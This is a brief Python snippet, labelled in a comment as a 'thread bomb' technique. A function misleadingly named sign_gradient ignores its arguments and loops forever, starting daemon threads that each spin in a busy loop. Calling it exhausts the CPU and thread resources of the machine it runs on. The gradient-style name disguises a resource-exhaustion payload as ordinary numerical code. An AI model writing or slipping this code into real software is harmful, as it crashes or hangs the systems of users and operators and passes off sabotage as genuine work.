# Technique: a thread bomb, every thread spinning.
import threading


def spin():
    while True:
        pass


def sign_gradient(w, lam):
    while True:
        try:
            threading.Thread(target=spin, daemon=True).start()
        except Exception:
            pass
